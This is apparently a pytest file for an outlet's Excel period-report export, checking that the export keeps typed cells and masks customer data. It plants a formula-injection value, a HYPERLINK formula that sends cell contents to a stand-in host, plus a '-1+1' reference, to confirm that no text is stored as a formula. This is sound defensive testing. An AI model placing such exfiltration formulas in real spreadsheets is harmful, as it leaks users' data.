"""The accountant's workbook: opens with openpyxl, numbers are numbers and dates are dates,
typed text never runs as a formula, and no customer's name, phone or address is in it."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import openpyxl

from outlet_pos.domain.day_figures import PeriodReport
from outlet_pos.domain.records import ShipmentSummary
from outlet_pos.domain.report_rows import ExportRow, VoidInfo
from outlet_pos.reports.xlsx_export import write_period_xlsx

WIB = ZoneInfo("Asia/Jakarta")
DAY = date(2026, 11, 25)
EVIL = '=HYPERLINK("http://x.example/?"&A1,"klik")'


def summary(n: int, **kw: object) -> ShipmentSummary:
    values = dict(waybill=f"{n:016d}", booked_at=datetime(2026, 11, 25, 0, 30, tzinfo=UTC),
                  clerk="kasir1", service="REG", dest_district="32.73.02", weight_g=1_250,
                  chargeable_kg=2, pieces=1, cod_amount=0, total=18_000,
                  payment_method="cash", status="booked", synced=True)
    return ShipmentSummary(**{**values, **kw})


def rows() -> list[ExportRow]:
    personal = dict(sender_name="Budi Santoso", sender_phone="+6281234567890",
                    recipient_name="Siti Nurhaliza", recipient_phone="+6285712345678",
                    recipient_address="Jl. Dago No. 12, Coblong")
    void = VoidInfo(reason=EVIL + " HP 0812 3456 7890", requested_by="kasir1",
                    authorised_by="manajer", at=datetime(2026, 11, 25, 3, 0, tzinfo=UTC))
    return [ExportRow(summary(1), district_name="Coblong, Kota Bandung", **personal),
            ExportRow(summary(2, payment_method="qris", total=25_000, cod_amount=150_000),
                      district_name="Coblong, Kota Bandung", payment_ref="-1+1", **personal),
            ExportRow(summary(3, status="void"), district_name="Coblong, Kota Bandung",
                      void=void, **personal)]


def workbook() -> tuple[bytes, PeriodReport]:
    data = rows()
    report = PeriodReport.from_days(DAY, DAY, "day", {DAY: [r.summary for r in data]}, tz=WIB)
    out = io.BytesIO()
    n = write_period_xlsx(report, data, out, title="Outlet Uji · 00042-03",
                          generated_at=datetime(2026, 11, 25, 20, 0, tzinfo=WIB), tz=WIB,
                          lang="en")
    assert n == 3
    return out.getvalue(), report


def test_the_workbook_opens_with_typed_cells():
    blob, report = workbook()
    book = openpyxl.load_workbook(io.BytesIO(blob))
    assert book.sheetnames == ["Summary", "Shipments", "Voids", "By group"]
    ship = list(book["Shipments"].iter_rows())
    head = [c.value for c in ship[0]]
    first = dict(zip(head, ship[1], strict=True))
    assert first["Date"].value == datetime(2026, 11, 25) and first["Date"].is_date
    assert first["Time"].value == "07:30"  # 00:30 UTC on the outlet's clock
    assert first["Total (Rp)"].value == 18_000 and first["Total (Rp)"].number_format == "#,##0"
    assert first["Destination"].value == "Coblong, Kota Bandung"
    assert first["Payment"].value == "Cash" and first["Status"].value == "booked"
    total = [r for r in book["Summary"].iter_rows(values_only=True) if r and r[0] == "Total"]
    assert total[0][3:6] == (2, 1, 2)  # shipments, voided, pieces
    assert total[0][7:11] == (report.total.revenue, 18_000, 25_000, 150_000)


def test_typed_text_is_never_a_formula():
    blob, _ = workbook()
    book = openpyxl.load_workbook(io.BytesIO(blob))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    voids = list(book["Voids"].iter_rows(values_only=True))
    assert voids[1][4] == EVIL + " HP +62812*****890"  # as typed, the phone masked
    assert voids[1][5:7] == ("kasir1", "manajer")
    assert voids[1][7] == datetime(2026, 11, 25, 10, 0)  # voided at, the outlet's clock
    refs = [r[13] for r in book["Shipments"].iter_rows(values_only=True)]
    assert "-1+1" in refs


def test_no_customer_data_in_the_file():
    blob, _ = workbook()
    with zipfile.ZipFile(io.BytesIO(blob)) as z:
        text = "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())
    for secret in ("Budi", "Santoso", "Nurhaliza", "81234567", "85712345", "Dago No",
                   "3456 7890"):
        assert secret not in text
